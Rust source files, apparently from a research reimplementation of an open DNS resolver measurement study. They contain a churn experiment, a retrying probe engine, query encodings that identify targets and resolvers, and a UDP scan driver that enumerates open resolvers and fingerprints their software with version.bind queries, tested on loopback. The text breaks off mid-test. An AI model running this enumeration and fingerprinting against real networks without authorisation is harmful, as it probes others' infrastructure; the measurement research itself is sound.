    meta: &[(String, String)],
) -> io::Result<u32> {
    let now_ms = world.now().millis();
    for ip in ips {
        sink.observe(Observation::at(
            u32::from(ip),
            Rcode::NoError.to_u8(),
            now_ms,
        ));
    }
    sink.commit(label, now_ms, meta)
}

/// Run the full churn experiment against `sink`: a cohort snapshot,
/// the day-one probe, then weekly probes for `weeks` weeks. Advances
/// world time as it goes. The first `committed` probe rounds are
/// skipped — they are already durable in the sink — so a killed run
/// resumes where its checkpoint left off.
pub fn track_cohort_with_sink(
    world: &mut World,
    vantage: Ipv4Addr,
    cohort: &[Ipv4Addr],
    weeks: u32,
    seed: u64,
    sink: &mut dyn SnapshotSink,
    committed: u32,
) -> io::Result<()> {
    let t0 = world.now();
    let mut sp = telemetry::span("campaign.churn", t0.millis());
    sp.attr("cohort", cohort.len());
    sp.attr("weeks", weeks);
    sp.attr("resumed_rounds", committed);
    if committed == 0 {
        commit_round(world, sink, cohort.iter().copied(), "cohort", &[])?;
    }

    // Day 1.
    world.advance_to(SimTime(t0.millis() + SimTime::DAY));
    if committed < 2 {
        let alive_day1 = probe_alive(world, vantage, cohort, seed ^ 0xD1);
        let meta = day1_leaver_meta(world, cohort, &alive_day1);
        commit_round(
            world,
            sink,
            cohort.iter().copied().filter(|ip| alive_day1.contains(ip)),
            "day1",
            &meta,
        )?;
    }

    // Weekly probes.
    for w in 1..=weeks {
        world.advance_to(SimTime(t0.millis() + w as u64 * SimTime::WEEK));
        if w + 1 < committed {
            continue;
        }
        let alive = probe_alive(world, vantage, cohort, seed ^ (w as u64) << 8);
        telemetry::debug(
            "campaign.churn.round",
            "weekly re-probe committed",
            &[("week", w.into()), ("alive", alive.len().into())],
            Some(world.now().millis()),
        );
        commit_round(
            world,
            sink,
            cohort.iter().copied().filter(|ip| alive.contains(ip)),
            &format!("week-{w}"),
            &[],
        )?;
    }
    sp.finish(world.now().millis());
    Ok(())
}

/// Derive the Figure 2 numbers back out of a committed snapshot
/// sequence (`cohort`, `day1`, `week-1`…).
pub fn churn_from_source(src: &dyn SnapshotSource) -> io::Result<ChurnResult> {
    let mut result = ChurnResult::default();
    src.for_each_snapshot(&mut |snap| {
        match snap.seq {
            0 => result.cohort = snap.records.len() as u64,
            1 => {
                result.day1_survivors = snap.records.len() as u64;
                let get = |key: &str| {
                    snap.meta_value(key)
                        .and_then(|v| v.parse::<u64>().ok())
                        .unwrap_or(0)
                };
                result.day1_leavers_with_rdns = get(META_LEAVERS_RDNS);
                result.day1_leavers_dynamic_rdns = get(META_LEAVERS_DYN);
            }
            _ => result.survivors.push(snap.records.len() as u64),
        }
        Ok(())
    })?;
    Ok(result)
}

/// Run the full churn experiment in memory: day-one probe, then weekly
/// probes for `weeks` weeks. Advances world time as it goes.
pub fn track_cohort(
    world: &mut World,
    vantage: Ipv4Addr,
    cohort: &[Ipv4Addr],
    weeks: u32,
    seed: u64,
) -> ChurnResult {
    let mut mem = scanstore::MemoryStore::new();
    track_cohort_with_sink(world, vantage, cohort, weeks, seed, &mut mem, 0)
        .expect("in-memory sink cannot fail");
    churn_from_source(&mem).expect("in-memory source cannot fail")
}
