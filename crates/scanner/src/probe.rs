//! The unified probe engine: retry/backoff policy, adaptive timeouts,
//! and per-campaign coverage accounting.
//!
//! The paper's client-side scans retransmit queries and tolerate
//! partial coverage (Sec. 2.2, Sec. 3.1); only the ZMap-style
//! enumeration sweep is deliberately single-probe. One [`ProbePolicy`]
//! describes the retransmission regime every retrying campaign uses:
//! bounded attempts, exponential backoff with deterministic jitter, and
//! EWMA-RTT adaptive response timeouts. [`Coverage`] is the common
//! accounting of how a campaign fared — so the bundle collector can
//! declare a campaign *degraded* instead of returning silently thin
//! results.
//!
//! The default policy is a single attempt, under which every campaign's
//! traffic is byte-identical to the engine-less code path — proven by
//! `tests/bundle_equivalence.rs`.

use netsim::{SimTime, TcpError, TcpRequest, TcpResponse};
use serde::{Deserialize, Serialize};
use std::collections::HashSet;
use std::net::Ipv4Addr;
use worldgen::world::ResponseClass;
use worldgen::World;

/// Retransmission policy for one campaign.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct ProbePolicy {
    /// Total attempts per target (1 = no retransmission).
    pub attempts: u32,
    /// Response wait after the first retransmission round, in ms.
    pub base_timeout_ms: u64,
    /// Multiplicative backoff applied to successive waits (≥ 1).
    pub backoff: f64,
    /// Apply deterministic ±50% jitter to each wait.
    pub jitter: bool,
    /// Shrink waits to an EWMA-RTT-derived RTO when samples exist.
    pub adaptive_rtt: bool,
    /// Upper clamp on any single wait, in ms.
    pub max_timeout_ms: u64,
}

impl ProbePolicy {
    /// One attempt, no retransmission — the byte-identity default.
    pub fn single() -> ProbePolicy {
        ProbePolicy {
            attempts: 1,
            base_timeout_ms: 1_500,
            backoff: 2.0,
            jitter: true,
            adaptive_rtt: true,
            max_timeout_ms: 6_000,
        }
    }

    /// `n` bounded attempts with exponential backoff.
    pub fn retrying(n: u32) -> ProbePolicy {
        ProbePolicy {
            attempts: n.max(1),
            ..ProbePolicy::single()
        }
    }

    /// The full wait schedule, one entry per attempt: exponentially
    /// backed-off steps, jittered by up to ±50% of the step (keyed on
    /// `key` and the attempt index, so reruns jitter identically), then
    /// clamped to be monotone non-decreasing. The monotone clamp keeps
    /// every delay within `[0.5, 1.5]×` its raw step while never
    /// letting jitter shrink a later wait below an earlier one.
    pub fn schedule(&self, key: u64) -> Vec<u64> {
        let mut out = Vec::with_capacity(self.attempts as usize);
        let mut prev = 0u64;
        for k in 0..self.attempts {
            let raw = self.raw_step(k);
            let jittered = if self.jitter {
                // j ∈ [-500, 500] per-mille of the step.
                let j = (mix64(key, 0x9177e4, k as u64) % 1_001) as i64 - 500;
                let delta = (raw as i64).saturating_mul(j) / 1_000;
                (raw as i64 + delta).max(1) as u64
            } else {
                raw
            };
            prev = prev.max(jittered);
            out.push(prev);
        }
        out
    }

    /// Raw (unjittered) backoff step for attempt `k`, clamped.
    pub fn raw_step(&self, k: u32) -> u64 {
        let factor = self.backoff.max(1.0).powi(k as i32);
        ((self.base_timeout_ms as f64 * factor) as u64).min(self.max_timeout_ms)
    }

    /// The response wait for retransmission round `round` (0-based):
    /// the schedule entry, or an RTO derived from observed RTTs when
    /// adaptive timeouts are on and samples exist — still backed off
    /// per round and clamped to `max_timeout_ms`.
    pub fn wait_ms(&self, round: usize, schedule: &[u64], est: &RttEstimator) -> u64 {
        let fallback = schedule
            .get(round.min(schedule.len().saturating_sub(1)))
            .copied()
            .unwrap_or(self.base_timeout_ms);
        if self.adaptive_rtt {
            if let Some(rto) = est.rto_ms() {
                let grown = rto.saturating_mul(1 << round.min(3));
                return grown.clamp(250, self.max_timeout_ms);
            }
        }
        fallback
    }
}

impl Default for ProbePolicy {
    fn default() -> Self {
        ProbePolicy::single()
    }
}

/// Classic EWMA round-trip estimator (RFC 6298 coefficients):
/// `srtt ← 7/8·srtt + 1/8·sample`, `rttvar ← 3/4·rttvar + 1/4·|err|`,
/// `rto = srtt + 4·rttvar`.
#[derive(Debug, Clone, Default)]
pub struct RttEstimator {
    srtt: f64,
    rttvar: f64,
    samples: u64,
}

impl RttEstimator {
    pub fn new() -> RttEstimator {
        RttEstimator::default()
    }

    /// Feed one round-trip sample in milliseconds.
    pub fn observe(&mut self, rtt_ms: f64) {
        if self.samples == 0 {
            self.srtt = rtt_ms;
            self.rttvar = rtt_ms / 2.0;
        } else {
            let err = (self.srtt - rtt_ms).abs();
            self.rttvar = 0.75 * self.rttvar + 0.25 * err;
            self.srtt = 0.875 * self.srtt + 0.125 * rtt_ms;
        }
        self.samples += 1;
    }

    /// Retransmission timeout, when at least one sample exists.
    pub fn rto_ms(&self) -> Option<u64> {
        (self.samples > 0).then(|| (self.srtt + 4.0 * self.rttvar).ceil() as u64)
    }

    pub fn samples(&self) -> u64 {
        self.samples
    }
}

/// How a campaign fared against its target set.
///
/// `space` coverage (the enumeration campaigns) counts probes against
/// the planned address space — single-probe sweeps answer "did we scan
/// everything we meant to". Response coverage (the retrying campaigns)
/// counts answers against targets that *could* have answered: targets
/// with no live responder behind them (`unreachable`) are excluded from
/// the denominator, so coverage measures the scanner, not the churn.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Coverage {
    /// Targets (or probes, for space coverage) the campaign attempted.
    pub attempted: u64,
    /// Targets that answered (probes sent, for space coverage).
    pub answered: u64,
    /// Reachable targets that never answered despite every attempt.
    pub gave_up: u64,
    /// Targets with no live responder (dead, renumbered, filtered).
    pub unreachable: u64,
    /// Retransmissions sent.
    pub retries: u64,
    /// True when this row measures scanned space, not responses.
    pub space: bool,
}

impl Coverage {
    /// Space coverage for a single-probe sweep: `sent` of `planned`
    /// probes dispatched (the remainder was skipped, e.g. blacklisted).
    pub fn space(planned: u64, sent: u64) -> Coverage {
        Coverage {
            attempted: planned,
            answered: sent,
            unreachable: planned - sent,
            space: true,
            ..Coverage::default()
        }
    }

    /// Fraction of reachable targets covered, in `[0, 1]`.
    pub fn fraction(&self) -> f64 {
        let reachable = self.attempted.saturating_sub(self.unreachable);
        if reachable == 0 {
            1.0
        } else {
            self.answered as f64 / reachable as f64
        }
    }

    /// Merge another coverage row into this one (multi-round
    /// campaigns accumulate per-round rows).
    pub fn absorb(&mut self, other: &Coverage) {
        self.attempted += other.attempted;
        self.answered += other.answered;
        self.gave_up += other.gave_up;
        self.unreachable += other.unreachable;
        self.retries += other.retries;
        self.space |= other.space;
    }
}

/// Response coverage of `targets` given the set that `answered`:
/// unanswered targets count as `unreachable` when no live resolver sits
/// behind the address right now (or its AS is border-filtered), and as
/// `gave_up` when a responder was there and we still got nothing.
pub fn response_coverage(
    world: &World,
    targets: &[Ipv4Addr],
    require_noerror: bool,
    answered: &HashSet<Ipv4Addr>,
    retries: u64,
) -> Coverage {
    let idx = world.responder_index();
    let week = (world.now().millis() / SimTime::WEEK) as u32;
    let mut cov = Coverage {
        attempted: targets.len() as u64,
        retries,
        ..Coverage::default()
    };
    for &ip in targets {
        if answered.contains(&ip) {
            cov.answered += 1;
            continue;
        }
        let expected = world
            .net
            .host_at(ip)
            .and_then(|h| idx.get(&h))
            .map(|s| {
                s.alive
                    && (!require_noerror || s.class == ResponseClass::NoError)
                    && !world
                        .border_filtered_asns
                        .iter()
                        .any(|&(asn, w)| s.asn == asn && week >= w)
            })
            .unwrap_or(false);
        if expected {
            cov.gave_up += 1;
        } else {
            cov.unreachable += 1;
        }
    }
    cov
}

/// Issue a TCP request with the policy's bounded retransmission:
/// timeouts are retried after the backoff delay (advancing simulated
/// time — retrying at the same instant would deterministically re-roll
/// the same outcome), other errors return immediately. Returns the
/// final outcome and the number of retries spent.
pub fn tcp_query_with_retry(
    net: &mut netsim::Network,
    policy: &ProbePolicy,
    campaign: &'static str,
    dst: Ipv4Addr,
    port: u16,
    req: &TcpRequest,
) -> (Result<TcpResponse, TcpError>, u64) {
    let record = telemetry::recorder::enabled();
    if record {
        telemetry::recorder::set_context(campaign, 1);
        telemetry::recorder::attempt(u32::from(dst), 0, net.now().millis());
    }
    let mut last = net.tcp_query(dst, port, req);
    if policy.attempts <= 1 {
        record_tcp_outcome(record, dst, &last, 1, net.now().millis());
        return (last, 0);
    }
    let schedule = policy.schedule(mix64(u32::from(dst) as u64, port as u64, 0x7c9e77));
    let mut retries = 0u64;
    for k in 1..policy.attempts {
        if !matches!(last, Err(TcpError::Timeout)) {
            break;
        }
        let delay = schedule[(k - 1) as usize];
        if record {
            telemetry::recorder::set_context(campaign, k + 1);
            telemetry::recorder::backoff(k - 1, delay, net.now().millis());
        }
        let target = net.now() + delay;
        net.run_until(target);
        retries += 1;
        if record {
            telemetry::recorder::attempt(u32::from(dst), 0, net.now().millis());
        }
        last = net.tcp_query(dst, port, req);
    }
    record_tcp_outcome(record, dst, &last, policy.attempts, net.now().millis());
    if retries > 0 {
        telemetry::global()
            .counter_with("scanner.retries", &[("campaign", campaign)])
            .add(retries);
    }
    (last, retries)
}

/// Flight-recorder epilogue for a TCP exchange: a success records a
/// response (rcode 0 — TCP banners have no DNS rcode), an exhausted
/// timeout records the give-up.
fn record_tcp_outcome(
    record: bool,
    dst: Ipv4Addr,
    outcome: &Result<TcpResponse, TcpError>,
    attempts: u32,
    now_ms: u64,
) {
    if !record {
        return;
    }
    match outcome {
        Ok(_) => telemetry::recorder::response(u32::from(dst), 0, now_ms),
        Err(TcpError::Timeout) => telemetry::recorder::gave_up(u32::from(dst), 0, attempts, now_ms),
        Err(_) => {}
    }
    telemetry::recorder::clear_context();
}

/// SplitMix64-style mixing — same construction as netsim's internal
/// hash, reimplemented here because probe jitter is scanner-side
/// randomness, deliberately decoupled from the network's channels.
pub(crate) fn mix64(a: u64, b: u64, c: u64) -> u64 {
    let mut z = a
        .wrapping_mul(0x9e3779b97f4a7c15)
        .wrapping_add(b.rotate_left(17))
        .wrapping_add(c.wrapping_mul(0xbf58476d1ce4e5b9));
    z ^= z >> 30;
    z = z.wrapping_mul(0xbf58476d1ce4e5b9);
    z ^= z >> 27;
    z = z.wrapping_mul(0x94d049bb133111eb);
    z ^ (z >> 31)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn single_policy_is_default_and_has_one_attempt() {
        assert_eq!(ProbePolicy::default(), ProbePolicy::single());
        assert_eq!(ProbePolicy::single().attempts, 1);
        assert_eq!(ProbePolicy::retrying(0).attempts, 1);
    }

    #[test]
    fn rtt_estimator_converges_and_rto_exceeds_srtt() {
        let mut est = RttEstimator::new();
        assert_eq!(est.rto_ms(), None);
        for _ in 0..64 {
            est.observe(100.0);
        }
        let rto = est.rto_ms().unwrap();
        // Constant samples: srtt → 100, rttvar → 0; rto ≥ srtt.
        assert!((100..=200).contains(&rto), "rto={rto}");
        est.observe(900.0);
        assert!(est.rto_ms().unwrap() > rto, "spike must raise the rto");
    }

    #[test]
    fn coverage_fraction_excludes_unreachable() {
        let cov = Coverage {
            attempted: 100,
            answered: 90,
            gave_up: 0,
            unreachable: 10,
            retries: 0,
            space: false,
        };
        assert!((cov.fraction() - 1.0).abs() < 1e-9);
        let empty = Coverage::default();
        assert!((empty.fraction() - 1.0).abs() < 1e-9);
    }

    proptest! {
        /// Backoff schedule properties: delays are monotone
        /// non-decreasing, each within ±50% of its raw exponential
        /// step, and the total wait is bounded by 1.5× the raw total.
        #[test]
        fn backoff_schedule_properties(
            key in any::<u64>(),
            attempts in 1u32..8,
            base in 100u64..3_000,
            backoff in 1.0f64..3.0,
            jitter in any::<bool>(),
        ) {
            let policy = ProbePolicy {
                attempts,
                base_timeout_ms: base,
                backoff,
                jitter,
                adaptive_rtt: false,
                max_timeout_ms: 60_000,
            };
            let sched = policy.schedule(key);
            prop_assert_eq!(sched.len(), attempts as usize);
            let mut raw_total = 0u64;
            for (k, &d) in sched.iter().enumerate() {
                let raw = policy.raw_step(k as u32);
                raw_total += raw;
                if k > 0 {
                    prop_assert!(d >= sched[k - 1], "monotone: {:?}", sched);
                }
                // With backoff ≥ 1 the monotone clamp never pushes a
                // delay above 1.5× its own step, and jitter never cuts
                // below half the step.
                prop_assert!(d <= raw + raw / 2, "delay {} step {}", d, raw);
                prop_assert!(d >= raw / 2, "delay {} step {}", d, raw);
            }
            let total: u64 = sched.iter().sum();
            prop_assert!(total <= raw_total + raw_total / 2, "total wait bounded");
            // Determinism: the same key yields the same schedule.
            prop_assert_eq!(sched, policy.schedule(key));
        }
    }
}
