//! Request encodings and response correlation.
//!
//! Two schemes from the paper:
//!
//! 1. **Enumeration scans** (Sec. 2.2) embed the *target address* in the
//!    query name — `prefix.hex-ip.scan-zone` — so the response
//!    identifies which host it was sent to even when the answering
//!    source address differs (DNS proxies, multi-homed hosts).
//! 2. **Domain scans** (Sec. 3.3) cannot vary the name, so they encode a
//!    25-bit *resolver identifier*: 16 bits in the DNS transaction ID,
//!    9 bits in the UDP source port, and — redundantly, for resolvers
//!    that rewrite ports — the same 9 bits in 0x20 casing.

use dnswire::{decode_0x20, encode_0x20, Message, MessageBuilder, Name, RecordType};
use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};

/// Number of ports used by the domain scan (9 bits).
pub const PORT_BITS: u32 = 9;
/// Port-block width (`2^PORT_BITS` = 512 ports).
pub const PORT_SPAN: u16 = 1 << PORT_BITS; // 512
/// Resolver identifiers carry 25 bits total.
pub const ID_BITS: u32 = 25;

/// Render an IPv4 address as the fixed-width hex label used in scan
/// names.
pub fn hex_ip(ip: std::net::Ipv4Addr) -> String {
    format!("{:08x}", u32::from(ip))
}

/// Parse a hex label back to an address.
pub fn parse_hex_ip(label: &str) -> Option<std::net::Ipv4Addr> {
    if label.len() != 8 {
        return None;
    }
    u32::from_str_radix(label, 16).ok().map(Into::into)
}

/// Build the enumeration query for `target`: random cache-busting
/// prefix + hex target + zone, with a transaction ID derived from the
/// same deterministic stream.
pub fn enumeration_query(target: std::net::Ipv4Addr, zone: &str, seed: u64) -> (Message, Name) {
    let mut rng = SmallRng::seed_from_u64(seed ^ u32::from(target) as u64);
    let prefix: String = (0..8)
        .map(|_| (b'a' + rng.gen_range(0..26u8)) as char)
        .collect();
    let name =
        Name::parse(&format!("{prefix}.{}.{zone}", hex_ip(target))).expect("scan name is valid");
    let txid: u16 = rng.gen();
    // Advertise EDNS0 like real scanners do — resolvers that need more
    // than 512 bytes can answer without truncation.
    let msg = MessageBuilder::query(txid, name.clone(), RecordType::A)
        .edns(4096)
        .build();
    (msg, name)
}

/// Pre-encoded wire template for enumeration queries.
///
/// A full sweep sends one query per allocated address — tens of
/// millions per campaign — and the only bytes that vary between
/// probes are the transaction ID, the cache-busting prefix, and the
/// hex target label, all at fixed offsets. Building each probe by
/// patching a template skips per-probe name parsing and message
/// construction entirely; the output is byte-identical to
/// [`enumeration_query`]`(target, zone, seed).0.encode()`.
pub struct EnumProbeTemplate {
    bytes: Vec<u8>,
    seed: u64,
}

/// Offset of the 8-byte prefix label's content (12-byte header + the
/// label's length byte).
const PREFIX_AT: usize = 13;
/// Offset of the 8-byte hex target label's content.
const HEX_AT: usize = 22;

impl EnumProbeTemplate {
    /// Build the template for one `(zone, seed)` scan.
    pub fn new(zone: &str, seed: u64) -> Self {
        let (msg, _) = enumeration_query(std::net::Ipv4Addr::UNSPECIFIED, zone, seed);
        EnumProbeTemplate {
            bytes: msg.encode(),
            seed,
        }
    }

    /// Wire bytes of the enumeration query for `target`.
    pub fn probe(&self, target: std::net::Ipv4Addr) -> Vec<u8> {
        let mut rng = SmallRng::seed_from_u64(self.seed ^ u32::from(target) as u64);
        let mut out = self.bytes.clone();
        for slot in &mut out[PREFIX_AT..PREFIX_AT + 8] {
            *slot = b'a' + rng.gen_range(0..26u8);
        }
        const HEXDIGITS: &[u8; 16] = b"0123456789abcdef";
        let v = u32::from(target);
        for (i, slot) in out[HEX_AT..HEX_AT + 8].iter_mut().enumerate() {
            *slot = HEXDIGITS[((v >> (28 - 4 * i)) & 0xf) as usize];
        }
        let txid: u16 = rng.gen();
        out[..2].copy_from_slice(&txid.to_be_bytes());
        out
    }
}

/// Extract the encoded target address from an echoed question name.
pub fn target_from_qname(qname: &Name) -> Option<std::net::Ipv4Addr> {
    // Labels: prefix . hexip . <zone...>
    let labels = qname.labels();
    if labels.len() < 3 {
        return None;
    }
    let hex = String::from_utf8_lossy(&labels[1]).to_ascii_lowercase();
    parse_hex_ip(&hex)
}

/// Encoded form of a domain-scan probe for resolver `id`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ProbeEncoding {
    /// DNS transaction ID (low 16 bits of the resolver id).
    pub txid: u16,
    /// Offset into the scanner's port block (high 9 bits).
    pub port_offset: u16,
    /// Query name with the high 9 bits 0x20-encoded into its casing.
    pub qname: Name,
}

/// Encode resolver `id` (< 2²⁵) for a query of `domain`.
pub fn encode_probe(id: u32, domain: &str) -> ProbeEncoding {
    assert!(id < (1 << ID_BITS), "resolver id {id} exceeds 25 bits");
    let txid = (id & 0xffff) as u16;
    let high = (id >> 16) as u16; // 9 bits
    let base = Name::parse(domain).expect("catalog domains are valid names");
    let qname = encode_0x20(&base, high as u32, PORT_BITS);
    ProbeEncoding {
        txid,
        port_offset: high,
        qname,
    }
}

/// Recover the resolver id from a response.
///
/// `arrival_port_offset` is the offset within the scanner's port block
/// the response actually arrived on; `None` if it arrived outside the
/// block (or the caller cannot attribute it). The 0x20 casing of the
/// echoed question is used when it disagrees with the arrival port —
/// the redundancy that defeats port-rewriting resolvers.
pub fn decode_probe(msg: &Message, arrival_port_offset: Option<u16>) -> Option<u32> {
    if msg.questions.is_empty() {
        return None;
    }
    let low = msg.header.id as u32;
    let casing_bits = decode_0x20(&msg.questions[0].qname, PORT_BITS) as u16;
    let high = match arrival_port_offset {
        Some(p) if p < PORT_SPAN && p == casing_bits => p,
        // Port missing or rewritten: trust the casing channel.
        _ => casing_bits,
    };
    Some(((high as u32) << 16) | low)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::Ipv4Addr;

    #[test]
    fn hex_ip_round_trip() {
        for ip in [
            Ipv4Addr::new(0, 0, 0, 0),
            Ipv4Addr::new(192, 168, 0, 1),
            Ipv4Addr::new(255, 255, 255, 255),
            Ipv4Addr::new(11, 22, 33, 44),
        ] {
            assert_eq!(parse_hex_ip(&hex_ip(ip)), Some(ip));
        }
        assert_eq!(parse_hex_ip("zzzzzzzz"), None);
        assert_eq!(parse_hex_ip("abcd"), None);
    }

    #[test]
    fn enumeration_query_embeds_target() {
        let target = Ipv4Addr::new(11, 0, 3, 7);
        let (msg, name) = enumeration_query(target, "scan.gwild.example", 9);
        assert_eq!(target_from_qname(&name), Some(target));
        assert_eq!(msg.questions[0].qname, name);
        // Deterministic per (target, seed).
        let (msg2, _) = enumeration_query(target, "scan.gwild.example", 9);
        assert_eq!(msg.header.id, msg2.header.id);
        let (msg3, name3) = enumeration_query(Ipv4Addr::new(11, 0, 3, 8), "scan.gwild.example", 9);
        assert_ne!(name.to_string(), name3.to_string());
        let _ = msg3;
    }

    #[test]
    fn probe_round_trip_via_port() {
        for id in [0u32, 1, 0xffff, 0x10000, 0x1ffffff, 12_345_678] {
            let p = encode_probe(id, "paypal.example");
            let q = MessageBuilder::query(p.txid, p.qname.clone(), RecordType::A).build();
            let resp = MessageBuilder::response_to(&q, dnswire::Rcode::NoError).build();
            assert_eq!(
                decode_probe(&resp, Some(p.port_offset)),
                Some(id),
                "id={id}"
            );
        }
    }

    #[test]
    fn probe_round_trip_with_rewritten_port() {
        // The resolver answered to the wrong port: 0x20 casing rescues
        // the high bits.
        let id = 0x1A3_4567u32;
        let p = encode_probe(id, "okcupid.example");
        let q = MessageBuilder::query(p.txid, p.qname.clone(), RecordType::A).build();
        let resp = MessageBuilder::response_to(&q, dnswire::Rcode::NoError).build();
        assert_eq!(decode_probe(&resp, None), Some(id));
        assert_eq!(decode_probe(&resp, Some(p.port_offset ^ 1)), Some(id));
    }

    #[test]
    fn casing_survives_name_identity() {
        let p = encode_probe(0x1ff_0000, "bet-at-home.example");
        assert_eq!(p.qname, Name::parse("bet-at-home.example").unwrap());
        assert_eq!(p.port_offset, 0x1ff);
    }

    #[test]
    #[should_panic(expected = "exceeds 25 bits")]
    fn oversized_id_rejected() {
        let _ = encode_probe(1 << 25, "x.example");
    }

    #[test]
    fn probe_template_matches_full_construction() {
        let zone = "scan.gwild.example";
        for seed in [0u64, 1, 0xF161_0000_0000_0007] {
            let tmpl = EnumProbeTemplate::new(zone, seed);
            for ip in [
                Ipv4Addr::new(0, 0, 0, 0),
                Ipv4Addr::new(11, 22, 33, 44),
                Ipv4Addr::new(192, 168, 0, 1),
                Ipv4Addr::new(255, 255, 255, 255),
            ] {
                let (msg, _) = enumeration_query(ip, zone, seed);
                assert_eq!(tmpl.probe(ip), msg.encode(), "seed={seed} ip={ip}");
            }
        }
    }
}
