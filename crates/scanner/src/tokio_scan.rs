//! A real-socket (tokio UDP) scan driver.
//!
//! The simulation campaigns prove the methodology at Internet scale; this
//! driver proves the scanner speaks real DNS on real sockets. It probes a
//! set of UDP endpoints — in tests and the `loopback_scan` example these
//! are `resolversim::tokioserve` fleets on 127.0.0.1 — with the same
//! query construction the simulation campaigns use.
//!
//! Responses are correlated by peer address + transaction ID, with a
//! bounded number of probes in flight, mirroring the rate discipline of
//! the paper's scanner.

use dnswire::{Message, MessageBuilder, Name, Rcode, RecordType};
use std::collections::HashMap;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::time::Duration;
use tokio::net::UdpSocket;
use tokio::time::timeout;

/// Outcome of probing one endpoint.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ProbeOutcome {
    /// Response code.
    pub rcode: Rcode,
    /// Answer A records.
    pub answers: Vec<Ipv4Addr>,
    /// TXT payload (CHAOS probes).
    pub txt: Option<String>,
}

/// Probe kind.
#[derive(Debug, Clone)]
pub enum Probe {
    /// A-record lookup of a domain.
    A(Name),
    /// CHAOS TXT `version.bind`.
    VersionBind,
}

/// Scan `targets` with `probe`, with at most `window` probes in flight
/// and a per-probe `deadline`. Returns outcomes for responsive targets.
pub async fn scan_targets(
    targets: &[SocketAddrV4],
    probe: Probe,
    window: usize,
    deadline: Duration,
) -> std::io::Result<HashMap<SocketAddrV4, ProbeOutcome>> {
    scan_targets_paced(targets, probe, window, deadline, None).await
}

/// [`scan_targets`] with an optional probes-per-second ceiling enforced
/// by a token bucket — the paper's politeness discipline on real
/// sockets.
pub async fn scan_targets_paced(
    targets: &[SocketAddrV4],
    probe: Probe,
    window: usize,
    deadline: Duration,
    rate_per_s: Option<u32>,
) -> std::io::Result<HashMap<SocketAddrV4, ProbeOutcome>> {
    let mut bucket = rate_per_s.map(|r| crate::TokenBucket::new(r, window.max(1) as u32));
    let wait_total = telemetry::counter("scanner.token_wait_ms_total");
    let wait_hist = telemetry::histogram("scanner.token_wait_ms", &[1, 5, 10, 50, 100, 500, 1000]);
    let start = std::time::Instant::now();
    let socket = UdpSocket::bind("127.0.0.1:0").await?;
    let mut results: HashMap<SocketAddrV4, ProbeOutcome> = HashMap::new();
    let mut buf = vec![0u8; 4096];

    for chunk in targets.chunks(window.max(1)) {
        // Send the window.
        let mut expected: HashMap<SocketAddrV4, u16> = HashMap::new();
        for (i, &target) in chunk.iter().enumerate() {
            if let Some(bucket) = bucket.as_mut() {
                loop {
                    let now_ms = start.elapsed().as_millis() as u64;
                    match bucket.try_acquire(now_ms) {
                        Ok(()) => break,
                        Err(wait) => {
                            wait_total.add(wait);
                            wait_hist.observe(wait);
                            tokio::time::sleep(Duration::from_millis(wait)).await;
                        }
                    }
                }
            }
            let txid = (u32::from(*target.ip()) as u16)
                .wrapping_add(target.port())
                .wrapping_add(i as u16);
            let msg = match &probe {
                Probe::A(name) => MessageBuilder::query(txid, name.clone(), RecordType::A).build(),
                Probe::VersionBind => {
                    MessageBuilder::chaos_query(txid, Name::parse("version.bind").unwrap()).build()
                }
            };
            socket
                .send_to(&msg.encode(), SocketAddr::V4(target))
                .await?;
            expected.insert(target, txid);
        }
        // Collect until the window is drained or the deadline passes.
        let mut remaining = expected.len();
        while remaining > 0 {
            let recv = timeout(deadline, socket.recv_from(&mut buf)).await;
            let Ok(Ok((len, peer))) = recv else { break };
            let SocketAddr::V4(peer) = peer else { continue };
            let Some(&txid) = expected.get(&peer) else {
                continue;
            };
            let Ok(msg) = Message::decode(&buf[..len]) else {
                continue;
            };
            if !msg.header.response || msg.header.id != txid {
                continue;
            }
            let txt = msg.answers.iter().find_map(|rr| rr.rdata.txt_joined());
            if results
                .insert(
                    peer,
                    ProbeOutcome {
                        rcode: msg.header.rcode,
                        answers: msg.answer_ips(),
                        txt,
                    },
                )
                .is_none()
            {
                remaining -= 1;
            }
        }
    }
    Ok(results)
}

/// Enumerate which endpoints are open resolvers (answer NOERROR for a
/// probe domain), then fingerprint their software with CHAOS — the
/// loopback analogue of the Sec. 2.2 + 2.4 pipeline.
pub async fn enumerate_and_fingerprint(
    targets: &[SocketAddrV4],
    probe_domain: &str,
    window: usize,
    deadline: Duration,
) -> std::io::Result<Vec<(SocketAddrV4, Rcode, Option<String>)>> {
    let name = Name::parse(probe_domain)
        .map_err(|e| std::io::Error::new(std::io::ErrorKind::InvalidInput, e.to_string()))?;
    let enumerated = scan_targets(targets, Probe::A(name), window, deadline).await?;
    let open: Vec<SocketAddrV4> = enumerated
        .iter()
        .filter(|(_, o)| o.rcode == Rcode::NoError)
        .map(|(a, _)| *a)
        .collect();
    let versions = scan_targets(&open, Probe::VersionBind, window, deadline).await?;
    let mut out: Vec<(SocketAddrV4, Rcode, Option<String>)> = enumerated
        .into_iter()
        .map(|(addr, o)| {
            let version = versions.get(&addr).and_then(|v| v.txt.clone());
            (addr, o.rcode, version)
        })
        .collect();
    out.sort_by_key(|(a, _, _)| (*a.ip(), a.port()));
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use resolversim::tokioserve::{spawn_fleet, ResolverServer};
    use resolversim::{
        CacheProfile, ChaosPolicy, DeviceProfile, DnsUniverse, DomainCategory, DomainKind,
        DomainRecord, ResolverBehavior, ResolverHost, SoftwareProfile, TldCacheSim,
    };
    use std::sync::Arc;

    fn host(behavior: ResolverBehavior, version: &str) -> ResolverHost {
        let mut u = DnsUniverse::new();
        u.add_domain(DomainRecord {
            name: "probe.example".into(),
            category: DomainCategory::Misc,
            kind: DomainKind::Fixed(vec![Ipv4Addr::new(198, 51, 100, 77)]),
            ttl: 60,
            is_mail_host: false,
        });
        ResolverHost::new(
            Arc::new(u),
            behavior,
            SoftwareProfile::new("BIND", version, ChaosPolicy::Genuine),
            DeviceProfile::closed(),
            TldCacheSim::new(CacheProfile::EmptyAnswer),
